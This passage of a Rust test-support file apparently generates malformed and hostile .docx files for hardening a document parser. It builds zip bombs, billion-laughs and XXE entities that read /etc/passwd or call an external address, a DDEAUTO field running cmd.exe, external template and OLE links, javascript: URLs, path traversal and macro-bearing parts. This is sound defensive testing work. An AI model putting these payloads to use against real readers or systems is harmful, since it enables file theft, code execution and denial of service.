//! Word files made to do harm: bombs, loops, lies about sizes, addresses outside, macros, names that lead out of folders.

use std::io::Write as _;

use flate2::write::DeflateEncoder;
use flate2::{Compress, Compression, Crc, FlushCompress};

use super::Numbers;

/// A Word file with a name that says what is wrong with it.
pub(super) struct Hostile {
    pub(super) name: String,
    pub(super) bytes: Vec<u8>,
}

const W: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
    xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" \
    xmlns:wp=\"http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing\" \
    xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" \
    xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" \
    xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" \
    xmlns:m=\"http://schemas.openxmlformats.org/officeDocument/2006/math\"";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const RELATIONS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";

/// The parts of a file; what is added under a name that is there already stands beside it.
#[derive(Clone, Default)]
struct File {
    parts: Vec<(String, Vec<u8>)>,
    links: String,
}

impl File {
    /// A file with this in its body.
    fn body(xml: &str) -> File {
        File::default().part("word/document.xml", format!("<w:document {W}><w:body>{xml}</w:body></w:document>"))
    }

    fn part(mut self, name: &str, bytes: impl Into<Vec<u8>>) -> File {
        self.parts.push((name.to_owned(), bytes.into()));
        self
    }

    /// A part beside the text that it points at.
    fn with(self, kind: &str, xml: &str) -> File {
        self.part(&format!("word/{kind}.xml"), format!("<w:{kind} {W}>{xml}</w:{kind}>")).link(
            kind,
            kind,
            &format!("{kind}.xml"),
            "",
        )
    }

    /// A relationship of the text.
    fn link(mut self, id: &str, kind: &str, target: &str, more: &str) -> File {
        self.links += &format!("<Relationship Id=\"{id}\" Type=\"{OFFICE}/{kind}\" Target=\"{target}\" {more}/>");
        self
    }

    fn outside(self, id: &str, kind: &str, target: &str) -> File {
        self.link(id, kind, target, "TargetMode=\"External\"")
    }

    fn all_parts(&self) -> Vec<(String, Vec<u8>)> {
        let main = format!("<Relationship Id=\"r1\" Type=\"{OFFICE}/officeDocument\" Target=\"word/document.xml\"/>");
        let of = |inside: &str| format!("<Relationships xmlns=\"{RELATIONS}\">{inside}</Relationships>").into_bytes();
        let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
            <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
            <Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>";
        let mut parts = self.parts.clone();
        for (name, bytes) in [
            ("[Content_Types].xml", types.as_bytes().to_vec()),
            ("_rels/.rels", of(&main)),
            ("word/_rels/document.xml.rels", of(&self.links)),
        ] {
            if !parts.iter().any(|(known, _)| known == name) {
                parts.push((name.to_owned(), bytes));
            }
        }
        parts
    }

    fn bytes(&self) -> Vec<u8> {
        zip(&self.all_parts())
    }

    fn named(&self, name: &str) -> Hostile {
        hostile(name, self.bytes())
    }
}

fn hostile(name: &str, bytes: impl Into<Vec<u8>>) -> Hostile {
    Hostile { name: name.to_owned(), bytes: bytes.into() }
}

/// A zip file. It is written by hand, since a name may stand in it twice.
fn zip(parts: &[(String, Vec<u8>)]) -> Vec<u8> {
    zip_of(&parts.iter().map(|(name, bytes)| packed(name, bytes)).collect::<Vec<_>>())
}

fn packed(name: &str, bytes: &[u8]) -> Entry {
    let mut packed = DeflateEncoder::new(Vec::new(), Compression::fast());
    packed.write_all(bytes).expect("it is packed");
    let packed = packed.finish().expect("it is packed");
    let mut sum = Crc::new();
    sum.update(bytes);
    Entry { name: name.to_owned(), size: bytes.len() as u32, sum: sum.sum(), packed }
}

/// A part as it stands in a zip file.
struct Entry {
    name: String,
    size: u32,
    sum: u32,
    packed: Vec<u8>,
}

impl Entry {
    /// So many megabytes of spaces, whose sum is wrong: nobody reads on to it.
    fn spaces(name: &str, megabytes: usize) -> Entry {
        let mut packed = Compress::new(Compression::best(), false);
        let mut block = Vec::with_capacity(100_000);
        packed.compress_vec(&[b' '; 1_000_000], &mut block, FlushCompress::Full).expect("it is packed");
        let mut all = block.repeat(megabytes);
        // An empty block that ends the stream.
        all.extend([3, 0]);
        Entry { name: name.to_owned(), size: megabytes as u32 * 1_000_000, sum: 0, packed: all }
    }
}

fn zip_of(entries: &[Entry]) -> Vec<u8> {
    let (mut bytes, mut directory) = (Vec::new(), Vec::new());
    for Entry { name, size, sum, packed } in entries {
        let start = bytes.len() as u32;
        // Version, flags, method, time, date.
        let mut head = [20_u16, 0x800, 8, 0, 0x21].iter().flat_map(|value| value.to_le_bytes()).collect::<Vec<u8>>();
        head.extend([*sum, packed.len() as u32, *size].iter().flat_map(|value| value.to_le_bytes()));
        head.extend((name.len() as u16).to_le_bytes());
        head.extend([0, 0]);
        bytes.extend(b"PK\x03\x04");
        bytes.extend(&head);
        bytes.extend(name.as_bytes());
        bytes.extend(packed);
        directory.extend(b"PK\x01\x02\x14\0");
        directory.extend(&head);
        directory.extend([0; 10]);
        directory.extend(start.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let (start, length, count) = (bytes.len() as u32, directory.len() as u32, entries.len() as u16);
    bytes.extend(directory);
    bytes.extend(b"PK\x05\x06\0\0\0\0");
    bytes.extend([count, count].iter().flat_map(|value| value.to_le_bytes()));
    bytes.extend([length, start].iter().flat_map(|value| value.to_le_bytes()));
    bytes.extend([0, 0]);
    bytes
}

fn replace(bytes: &mut [u8], old: &[u8], new: &[u8]) {
    assert_eq!(old.len(), new.len());
    let places: Vec<usize> =
        (0..bytes.len().saturating_sub(old.len())).filter(|at| bytes[*at..].starts_with(old)).collect();
    for at in places {
        bytes[at..at + new.len()].copy_from_slice(new);
    }
}

fn text(words: &str) -> String {
    format!("<w:p><w:r><w:t xml:space=\"preserve\">{words}</w:t></w:r></w:p>")
}

/// `inner` in so many pairs of tags.
fn nested(open: &str, close: &str, depth: usize, inner: &str) -> String {
    format!("{}{inner}{}", open.repeat(depth), close.repeat(depth))
}

/// All of them; `address` is where a server listens that nobody may speak to, `good` a file with everything.
pub(super) fn all(address: &str, good: &[u8]) -> Vec<Hostile> {
    let mut all = Vec::new();
    all.extend(other_files());
    all.extend(damaged(good));
    all.extend(changed(good));
    all.extend(bombs());
    all.extend(declarations(address));
    all.extend(depths());
    all.extend(addresses(address));
    all.extend(lies(good));
    all.extend(missing());
    all.extend(programs(good));
    all.extend(loops());
    all.extend(huge_values());
    all.extend(names());
    all.extend(letters());
    all.extend(masses());
    all
}

/// Files of another kind.
fn other_files() -> Vec<Hostile> {
    let old = |more: &[u8]| [b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".as_slice(), more].concat();
    let wide = |name: &str| name.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let mut numbers = Numbers::new(7);
    let noise: Vec<u8> = (0..5_000).map(|_| numbers.below(256) as u8).collect();
    let office = |main: &str, kind: &str, root: &str| {
        let relation = format!("<Relationship Id=\"r1\" Type=\"{OFFICE}/officeDocument\" Target=\"{main}\"/>");
        let relations = format!("<Relationships xmlns=\"{RELATIONS}\">{relation}</Relationships>");
        File::default().part("_rels/.rels", relations).part(main, format!("<{root} xmlns=\"{kind}\"/>")).bytes()
    };
    let sheet = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let slides = "http://schemas.openxmlformats.org/presentationml/2006/main";
    vec![
        hostile("empty", ""),
        hostile("one-byte", "P"),
        hostile("two-bytes", "PK"),
        hostile("four-bytes", "PK\u{3}\u{4}"),
        hostile("end-alone", [b"PK\x05\x06".as_slice(), &[0; 18]].concat()),
        hostile("end-twice", [b"PK\x05\x06".as_slice(), &[0; 18], b"PK\x05\x06", &[0; 18]].concat()),
        hostile("plain-text", "A letter."),
        hostile("noise", noise.clone()),
        hostile("zip-and-noise", [b"PK\x03\x04".as_slice(), &noise].concat()),
        hostile("pdf", "%PDF-1.7\n%%EOF"),
        hostile("rtf", "{\\rtf1 A letter.}"),
        hostile("web-page", "<html><body>A letter.</body></html>"),
        hostile("flat-xml", "<?xml version=\"1.0\"?><w:wordDocument/>"),
        hostile("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\0".to_vec()),
        hostile("old-word", old(&[0; 4_096])),
        hostile("old-word-cut", old(&[])),
        hostile(
            "password",
            old(&[[0; 1_024].as_slice(), &wide("EncryptedPackage"), &wide("EncryptionInfo"), &noise].concat()),
        ),
        hostile("open-document", zip(&[("mimetype".into(), b"application/vnd.oasis.opendocument.text".to_vec())])),
        hostile("sheet", office("xl/workbook.xml", sheet, "workbook")),
        hostile("slides", office("ppt/presentation.xml", slides, "presentation")),
        hostile("java", zip(&[("META-INF/MANIFEST.MF".into(), b"Manifest-Version: 1.0".to_vec())])),
        hostile("empty-zip", zip(&[])),
    ]
}

/// A good file that is cut off or has other bytes.
fn damaged(good: &[u8]) -> Vec<Hostile> {
    let mut all = Vec::new();
    for part in 1..16 {
        all.push(hostile(&format!("cut-{part}"), &good[..good.len() * part / 16]));
    }
    all.push(hostile("cut-by-one", &good[..good.len() - 1]));
    all.push(hostile("begun-late", &good[1..]));
    all.push(hostile("more-at-the-end", [good, b"and more"].concat()));
    all.push(hostile("more-at-the-start", [b"PK\x03\x04".as_slice(), good].concat()));
    let mut numbers = Numbers::new(11);
    for at in 0..30 {
        let mut bytes = good.to_vec();
        for _ in 0..=numbers.below(20) {
            let place = numbers.below(bytes.len());
            bytes[place] = numbers.below(256) as u8;
        }
        all.push(hostile(&format!("bytes-{at}"), bytes));
    }
    // The directory at the end, where the sizes stand.
    let directory = good.windows(4).position(|window| window == b"PK\x01\x02").expect("a directory");
    for at in 0..20 {
        let mut bytes = good.to_vec();
        for _ in 0..=numbers.below(6) {
            let place = directory + numbers.below(bytes.len() - directory);
            bytes[place] = [0, 0xFF, 0x80, 1][numbers.below(4)];
        }
        all.push(hostile(&format!("directory-{at}"), bytes));
    }
    all
}

/// A good file whose XML was changed by something that does not know it.
fn changed(good: &[u8]) -> Vec<Hostile> {
    let package = crate::word::open(good);
    let names: Vec<&String> =
        package.names.iter().filter(|name| name.ends_with(".xml") || name.ends_with(".rels")).collect();
    let mut numbers = Numbers::new(13);
    let mut all = Vec::new();
    for at in 0..60 {
        let name = names[at % names.len()];
        let mut xml = String::from_utf8_lossy(package.part(name)).into_owned();
        for _ in 0..=numbers.below(3) {
            change(&mut xml, &mut numbers);
        }
        let parts: Vec<(String, Vec<u8>)> = package
            .names
            .iter()
            .map(|known| {
                let bytes = if known == name { xml.clone().into_bytes() } else { package.part(known).to_vec() };
                (known.clone(), bytes)
            })
            .collect();
        all.push(hostile(&format!("changed-{at}"), zip(&parts)));
    }
    all
}

/// One change: an element is taken out, doubled, renamed, or a value is another.
fn change(xml: &mut String, numbers: &mut Numbers) {
    let starts: Vec<usize> = xml.match_indices('<').map(|(at, _)| at).collect();
    if starts.len() < 3 {
        return;
    }
    let from = starts[1 + numbers.below(starts.len() - 1)];
    let to = xml[from..].find('>').map_or(xml.len(), |end| from + end + 1);
    match numbers.below(6) {
        0 => xml.replace_range(from..to, ""),
        1 => {
            let again = xml[from..to].to_owned();
            xml.insert_str(to, &again);
        }
        2 => {
            let values =
                ["-1", "4294967296", "99999999999999999999", "", "NaN", "&#0;", "&#x1F600;", "&undefined;", "é"];
            if let Some(open) = xml[from..to].find('"').map(|at| from + at + 1)
                && let Some(close) = xml[open..to].find('"').map(|at| open + at)
            {
                xml.replace_range(open..close, values[numbers.below(values.len())]);
            }
        }
        3 => xml.insert_str(to, "<w:tbl><w:tr><w:tc/></w:tr></w:tbl>"),
        4 => xml.insert_str(to, "</w:p><w:p>"),
        _ => xml.insert_str(to, ["<![CDATA[x]]>", "<!-- x -->", "<?x y?>", "\u{0}", "<w:p/>"][numbers.below(5)]),
    }
}

/// Few bytes that unpack to many.
fn bombs() -> Vec<Hostile> {
    let small = || File::body(&text("x"));
    let with = |file: File, name: &str| {
        let mut entries: Vec<Entry> = Vec::new();
        for (known, bytes) in file.all_parts() {
            if known != name {
                entries.push(packed(&known, &bytes));
            }
        }
        entries.push(Entry::spaces(name, 220));
        zip_of(&entries)
    };
    let picture = "<w:p><w:r><w:drawing><a:blip r:embed=\"p\"/></w:drawing></w:r></w:p>";
    let many =
        |count: usize| (0..count).fold(small(), |file, at| file.part(&format!("word/a{at}.xml"), "<x/>")).bytes();
    vec![
        hostile("bomb-text", with(small(), "word/document.xml")),
        hostile("bomb-styles", with(small().link("s", "styles", "styles.xml", ""), "word/styles.xml")),
        hostile("bomb-picture", with(File::body(picture).link("p", "image", "media/a.png", ""), "word/media/a.png")),
        hostile("bomb-comments", with(small().link("c", "comments", "comments.xml", ""), "word/comments.xml")),
        hostile("bomb-types", with(small(), "[Content_Types].xml")),
        hostile("bomb-relations", with(small(), "_rels/.rels")),
        hostile("bomb-not-named", with(small(), "word/embeddings/a.bin")),
        small().part("word/embeddings/a.docx", with(small(), "x")).named("bomb-in-a-file-within"),
        File::body(&format!("{}{}", text("x"), " ".repeat(20_000_000))).named("many-spaces"),
        hostile("ten-thousand-parts", many(10_001)),
        hostile("thousand-parts", many(1_000)),
    ]
}

/// Names that XML declares: they can grow without end or name other files.
fn declarations(address: &str) -> Vec<Hostile> {
    let laughs: String =
        (1..20).map(|at| format!("<!ENTITY l{at} \"{}\">", format!("&l{};", at - 1).repeat(10))).collect();
    let declared = |inside: &str, words: &str| {
        format!("<!DOCTYPE x [{inside}]><w:document {W}><w:body>{}</w:body></w:document>", text(words))
    };
    let main = |xml: String| File::default().part("word/document.xml", xml);
    let styles =
        |xml: String| File::body(&text("x")).part("word/styles.xml", xml).link("s", "styles", "styles.xml", "");
    let laugh = format!("<!ENTITY l0 \"ha\">{laughs}");
    let relations = format!(
        "<!DOCTYPE x [{laugh}]><Relationships xmlns=\"{RELATIONS}\"><Relationship Id=\"&l19;\"/></Relationships>"
    );
    vec![
        main(declared(&laugh, "&l19;")).named("laughs"),
        main(declared("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;")).named("entity-file"),
        main(declared(&format!("<!ENTITY x SYSTEM \"http://{address}/x\">"), "&x;")).named("entity-address"),
        main(declared(&format!("<!ENTITY % x SYSTEM \"http://{address}/x\"> %x;"), "x"))
            .named("entity-of-declarations"),
        main(format!("<!DOCTYPE w:document SYSTEM \"http://{address}/x.dtd\"><w:document {W}/>"))
            .named("declarations-elsewhere"),
        main(format!("<w:document {W}><w:body>{}</w:body></w:document>", text("&unknown;&#x0;&#xFFFF;&#1114112;")))
            .named("unknown-entities"),
        styles(declared(&laugh, "&l19;")).named("laughs-in-styles"),
        File::body(&text("x")).part("word/_rels/document.xml.rels", relations).named("laughs-in-relations"),
        main(format!(
            "<?xml-stylesheet href=\"http://{address}/x.xsl\"?><w:document {W}><w:body>{}</w:body></w:document>",
            text("x")
        ))
        .named("sheet-elsewhere"),
        File::body(&format!(
            "{}<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>",
            text("x")
        ))
        .named("include"),
    ]
}

/// Elements in elements in elements.
fn depths() -> Vec<Hostile> {
    let mut all = Vec::new();
    for depth in [60, 240, 5_000, 400_000] {
        let mut add = |name: &str, xml: String| all.push(File::body(&xml).named(&format!("deep-{name}-{depth}")));
        add("unknown", nested("<x>", "</x>", depth, ""));
        add("tables", nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", depth / 3, &text("x")));
        add("controls", nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", depth / 2, &text("x")));
        add("changes", format!("<w:p>{}</w:p>", nested("<w:ins>", "</w:ins>", depth, "<w:r><w:t>x</w:t></w:r>")));
        add("formulas", format!("<w:p>{}</w:p>", nested("<m:oMath>", "</m:oMath>", depth, "<m:t>x</m:t>")));
        let boxes = nested(
            "<w:p><w:r><w:pict><v:textbox><w:txbxContent>",
            "</w:txbxContent></v:textbox></w:pict></w:r></w:p>",
            depth / 5,
            &text("x"),
        );
        add("boxes", boxes);
        let fields = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>".repeat(depth);
        add("fields", format!("<w:p>{fields}</w:p>{}", text("x")));
        add(
            "choices",
            nested(
                "<mc:AlternateContent><mc:Choice Requires=\"wps\">",
                "</mc:Choice></mc:AlternateContent>",
                depth / 2,
                &text("x"),
            ),
        );
    }
    all
}

/// What stands elsewhere.
fn addresses(address: &str) -> Vec<Hostile> {
    let picture = "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:blip r:link=\"p\"/></a:graphic></wp:inline></w:drawing></w:r></w:p>";
    let embedded = picture.replace("r:link", "r:embed");
    let link = "<w:p><w:hyperlink r:id=\"h\"><w:r><w:t>words</w:t></w:r></w:hyperlink></w:p>";
    let mut all = Vec::new();
    for (at, target) in [
        format!("http://{address}/a.png"),
        "file:///etc/passwd".to_owned(),
        "\\\\server\\share\\a.png".to_owned(),
        "../../../../../etc/passwd".to_owned(),
        "javascript:alert(1)".to_owned(),
        format!("http://{address}/{}", "a".repeat(300_000)),
    ]
    .iter()
    .enumerate()
    {
        all.push(File::body(picture).outside("p", "image", target).named(&format!("picture-elsewhere-{at}")));
        all.push(File::body(&embedded).outside("p", "image", target).named(&format!("picture-said-to-be-here-{at}")));
        all.push(File::body(link).outside("h", "hyperlink", target).named(&format!("link-{at}")));
        all.push(File::body(&embedded).link("p", "image", target, "").named(&format!("picture-out-of-the-file-{at}")));
    }
    let field = |instruction: &str| {
        format!("<w:p><w:fldSimple w:instr=\"{instruction}\"><w:r><w:t>words</w:t></w:r></w:fldSimple></w:p>")
    };
    let main = format!(
        "<Relationship Id=\"r1\" Type=\"{OFFICE}/officeDocument\" Target=\"http://{address}/x\" TargetMode=\"External\"/>"
    );
    let settings = |kind: &str| {
        File::body(&text("x")).with("settings", "<w:attachedTemplate r:id=\"t\"/>").part(
            "word/_rels/settings.xml.rels",
            format!("<Relationships xmlns=\"{RELATIONS}\"><Relationship Id=\"t\" Type=\"{OFFICE}/{kind}\" Target=\"http://{address}/t.dotm\" TargetMode=\"External\"/></Relationships>"),
        )
    };
    all.extend([
        settings("attachedTemplate").named("template-elsewhere"),
        settings("mailMergeSource").named("letters-elsewhere"),
        File::body("<w:altChunk r:id=\"c\"/>")
            .outside("c", "aFChunk", &format!("http://{address}/x.html"))
            .named("chunk-elsewhere"),
        File::body("<w:p><w:subDoc r:id=\"d\"/></w:p>")
            .outside("d", "subDocument", &format!("http://{address}/x.docx"))
            .named("file-elsewhere"),
        File::body(&field(&format!("INCLUDEPICTURE \\\"http://{address}/x.png\\\" \\d"))).named("field-picture"),
        File::body(&field("INCLUDETEXT file:///etc/passwd")).named("field-text"),
        File::body(&field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe /k")).named("field-program"),
        File::body(&text("x"))
            .part("_rels/.rels", format!("<Relationships xmlns=\"{RELATIONS}\">{main}</Relationships>"))
            .named("text-elsewhere"),
        File::body(&text("x"))
            .outside("s", "styles", &format!("http://{address}/styles.xml"))
            .named("styles-elsewhere"),
        File::body("<w:p><w:r><w:object><o:OLEObject Type=\"Link\" r:id=\"o\"/></w:object></w:r></w:p>")
            .outside("o", "oleObject", &format!("http://{address}/x.xls"))
            .named("object-elsewhere"),
        File::body(&text("x"))
            .with("webSettings", "<w:frameset><w:frame><w:sourceFileName r:id=\"f\"/></w:frame></w:frameset>")
            .named("frames"),
    ]);
    all
}

/// Directories that do not say the truth.
fn lies(good: &[u8]) -> Vec<Hostile> {
    let directory = |field: usize, value: &[u8], local: Option<usize>| {
        let mut bytes = good.to_vec();
        let starts: Vec<usize> = (0..bytes.len() - 4).filter(|at| bytes[*at..].starts_with(b"PK\x01\x02")).collect();
        for at in starts {
            bytes[at + field..at + field + value.len()].copy_from_slice(value);
        }
        if let Some(field) = local {
            let starts: Vec<usize> =
                (0..bytes.len() - 4).filter(|at| bytes[*at..].starts_with(b"PK\x03\x04")).collect();
            for at in starts {
                bytes[at + field..at + field + value.len()].copy_from_slice(value);
            }
        }
        bytes
    };
    let end = good.len() - 22;
    let ended = |field: usize, value: &[u8]| {
        let mut bytes = good.to_vec();
        bytes[end + field..end + field + value.len()].copy_from_slice(value);
        bytes
    };
    vec![
        hostile("size-none", directory(24, &[0; 4], Some(22))),
        hostile("size-four-gigabytes", directory(24, &[0xFF, 0xFF, 0xFF, 0xFE], Some(22))),
        hostile("size-one", directory(24, &[1, 0, 0, 0], Some(22))),
        hostile("packed-none", directory(20, &[0; 4], Some(18))),
        hostile("packed-all", directory(20, &[0xFF, 0xFF, 0xFF, 0x7F], Some(18))),
        hostile("sum-wrong", directory(16, &[1, 2, 3, 4], Some(14))),
        hostile("method-unknown", directory(10, &[99, 0], Some(8))),
        hostile("method-bzip2", directory(10, &[12, 0], Some(8))),
        hostile("method-stored", directory(10, &[0, 0], Some(8))),
        hostile("encrypted", directory(8, &[1, 0], Some(6))),
        hostile("strongly-encrypted", directory(8, &[0x41, 0x20], Some(6))),
        hostile("all-at-the-start", directory(42, &[0; 4], None)),
        hostile("all-past-the-end", directory(42, &[0xFF, 0xFF, 0xFF, 0x7F], None)),
        hostile("attributes-of-a-link", directory(38, &[0, 0, 0xFF, 0xA1], None)),
        hostile("entries-none", ended(8, &[0; 4])),
        hostile("entries-many", ended(8, &[0xFF; 4])),
        hostile("directory-elsewhere", ended(16, &[0xFF, 0xFF, 0xFF, 0x7F])),
        hostile("directory-large", ended(12, &[0xFF, 0xFF, 0xFF, 0x7F])),
        hostile("comment-long", ended(20, &[0xFF, 0xFF])),
    ]
}

/// Files that lack what they point at.
fn missing() -> Vec<Hostile> {
    let marks = "<w:p><w:r><w:footnoteReference w:id=\"5\"/><w:endnoteReference w:id=\"6\"/><w:t>x</w:t><w:commentReference w:id=\"7\"/></w:r></w:p>";
    let numbered = "<w:p><w:pPr><w:pStyle w:val=\"None\"/><w:numPr><w:ilvl w:val=\"3\"/><w:numId w:val=\"8\"/></w:numPr></w:pPr><w:r><w:rPr><w:rStyle w:val=\"None\"/></w:rPr><w:t>x</w:t></w:r></w:p>";
    let gone = |kind: &str| File::body(&text("x")).link(kind, kind, &format!("{kind}.xml"), "");
    let bare = |names: &[&str]| {
        let parts = File::body(&text("x")).all_parts();
        zip(&parts.into_iter().filter(|(name, _)| !names.contains(&name.as_str())).collect::<Vec<_>>())
    };
    let mut all: Vec<Hostile> =
        ["styles", "numbering", "footnotes", "endnotes", "comments", "theme", "header", "settings"]
            .iter()
            .map(|kind| gone(kind).named(&format!("gone-{kind}")))
            .collect();
    all.extend([
        hostile("gone-text", bare(&["word/document.xml"])),
        hostile("gone-types", bare(&["[Content_Types].xml"])),
        hostile("gone-relations", bare(&["_rels/.rels", "word/_rels/document.xml.rels"])),
        File::body(marks).named("marks-without-notes"),
        File::body(numbered).with("numbering", "").with("styles", "").named("numbers-without-lists"),
        File::default().part("word/document.xml", format!("<w:document {W}/>")).named("no-body"),
        File::default().part("word/document.xml", "").named("text-of-no-bytes"),
        File::default().part("word/document.xml", "<w:document/>").named("no-namespace"),
        File::body("").named("no-paragraph"),
        File::body("<w:p/>").named("empty-paragraph"),
        File::body("<w:tbl/>").named("table-of-nothing"),
        File::body("<w:tbl><w:tr/></w:tbl>").named("row-of-nothing"),
        File::body("<w:tbl><w:tr><w:tc/></w:tr></w:tbl>").named("cell-of-nothing"),
        File::body("words between<w:t>and more</w:t>").named("words-between-paragraphs"),
        File::body("<w:p><w:r><w:t>a</w:t></w:r><w:p><w:r><w:t>b</w:t></w:r></w:p></w:p>")
            .named("paragraph-in-paragraph"),
    ]);
    all
}

/// Files with programs in them.
fn programs(good: &[u8]) -> Vec<Hostile> {
    let package = crate::word::open(good);
    let with = |more: &[(&str, &[u8])], kind: &str| {
        let mut parts: Vec<(String, Vec<u8>)> = package
            .names
            .iter()
            .map(|name| {
                let mut bytes = package.part(name).to_vec();
                let text = String::from_utf8_lossy(&bytes).into_owned();
                if name == "[Content_Types].xml" {
                    let usual = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
                    assert!(text.contains(usual));
                    let program = "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>";
                    bytes = text.replace(usual, kind).replace("</Types>", program).into_bytes();
                } else if name == "word/_rels/document.xml.rels" {
                    let program = "<Relationship Id=\"vba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>";
                    bytes = text.replace("</Relationships>", program).into_bytes();
                }
                (name.clone(), bytes)
            })
            .collect();
        parts.extend(more.iter().map(|(name, bytes)| ((*name).to_owned(), bytes.to_vec())));
        zip(&parts)
    };
    let document = "application/vnd.ms-word.document.macroEnabled.main+xml";
    let template = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml";
    let program: &[u8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 Sub AutoOpen()";
    let data = b"<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>";
    vec![
        hostile("program", with(&[("word/vbaProject.bin", program)], document)),
        hostile("program-with-data", with(&[("word/vbaProject.bin", program), ("word/vbaData.xml", data)], document)),
        hostile("program-in-a-template", with(&[("word/vbaProject.bin", program)], template)),
        hostile("program-in-capitals", with(&[("word/VBAPROJECT.BIN", program)], document)),
        hostile(
            "program-in-an-object",
            with(&[("word/vbaProject.bin", program), ("word/embeddings/a.docm", program)], document),
        ),
        hostile(
            "control-of-a-program",
            with(&[("word/vbaProject.bin", program), ("word/activeX/activeX1.bin", program)], document),
        ),
    ]
}

/// What points at itself.
fn loops() -> Vec<Hostile> {
    let style = |id: &str, on: &str| {
        format!(
            "<w:style w:type=\"paragraph\" w:styleId=\"{id}\"><w:name w:val=\"{id}\"/><w:basedOn w:val=\"{on}\"/><w:link w:val=\"{on}\"/><w:next w:val=\"{on}\"/></w:style>"
        )
    };
    let styled = |id: &str| format!("<w:p><w:pPr><w:pStyle w:val=\"{id}\"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>");
    let chain: String = (0..5_000).map(|at| style(&format!("s{at}"), &format!("s{}", at + 1))).collect();
    let linked = |id: u32, style: &str, link: &str| {
        format!(
            "<w:abstractNum w:abstractNumId=\"{id}\"><w:styleLink w:val=\"{style}\"/><w:numStyleLink w:val=\"{link}\"/></w:abstractNum><w:num w:numId=\"{id}\"><w:abstractNumId w:val=\"{id}\"/></w:num>"
        )
    };
    let item = "<w:p><w:pPr><w:numPr><w:ilvl w:val=\"0\"/><w:numId w:val=\"1\"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>";
    let note =
        |inside: &str| format!("<w:footnote w:id=\"2\"><w:p><w:r><w:t>note</w:t></w:r>{inside}</w:p></w:footnote>");
    let mark = |id: u32| format!("<w:r><w:footnoteReference w:id=\"{id}\"/></w:r>");
    let marked = format!("<w:p><w:r><w:t>x</w:t></w:r>{}</w:p>", mark(2));
    let level = |text: &str, start: &str| {
        format!(
            "<w:abstractNum w:abstractNumId=\"1\"><w:lvl w:ilvl=\"0\"><w:start w:val=\"{start}\"/><w:numFmt w:val=\"upperRoman\"/><w:lvlText w:val=\"{text}\"/></w:lvl></w:abstractNum><w:num w:numId=\"1\"><w:abstractNumId w:val=\"1\"/></w:num>"
        )
    };
    let two = format!("{}<w:footnote w:id=\"3\"><w:p>{}</w:p></w:footnote>", note(&mark(3)), mark(2));
    let many: String = (0..40)
        .map(|at| format!("<w:footnote w:id=\"{at}\"><w:p>{}{}</w:p></w:footnote>", mark(at + 1), mark(at + 1)))
        .collect();
    let field = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>REF a</w:instrText></w:r><w:r><w:t>x</w:t></w:r></w:p>";
    let reference = "<w:p><w:bookmarkStart w:id=\"1\" w:name=\"a\"/><w:fldSimple w:instr=\"REF a\"><w:r><w:t>1</w:t></w:r></w:fldSimple><w:bookmarkEnd w:id=\"1\"/></w:p>";
    vec![
        File::body(&styled("a")).with("styles", &style("a", "a")).named("style-on-itself"),
        File::body(&styled("a")).with("styles", &(style("a", "b") + &style("b", "a"))).named("styles-on-each-other"),
        File::body(&styled("s0")).with("styles", &chain).named("styles-in-a-chain"),
        File::body(item).with("numbering", &linked(1, "l", "l")).named("list-like-itself"),
        File::body(item)
            .with("numbering", &(linked(1, "l", "k") + &linked(2, "k", "l")))
            .named("lists-like-each-other"),
        File::body(item).with("numbering", &level("%1%1%1%1%1%1%1%1%1", "4294967295")).named("number-largest"),
        File::body(item).with("numbering", &level(&"%9".repeat(100_000), "3999")).named("number-of-many-levels"),
        File::body(&item.repeat(3)).with("numbering", &level("%1", "-5")).named("number-below-nothing"),
        File::body(&marked).with("footnotes", &note(&mark(2))).named("note-in-itself"),
        File::body(&marked).with("footnotes", &two).named("notes-in-each-other"),
        File::body(&marked.replace("\"2\"", "\"0\"")).with("footnotes", &many).named("notes-that-double"),
        File::body(&format!("<w:p>{}</w:p>", mark(2).repeat(2_000)))
            .with("footnotes", &note(&format!("<w:r><w:t>{}</w:t></w:r>", "A word. ".repeat(12_500))))
            .named("note-with-thousands-of-marks"),
        File::body(&field.repeat(20_000)).named("fields-without-ends"),
        File::body(reference).named("reference-to-itself"),
        File::body(&text("x"))
            .link("d", "officeDocument", "document.xml", "")
            .link("d", "footnotes", "document.xml", "")
            .named("text-as-its-notes"),
        File::body(&text("x"))
            .link("s", "styles", "document.xml", "")
            .link("n", "numbering", "document.xml", "")
            .link("c", "comments", "document.xml", "")
            .named("text-as-everything"),
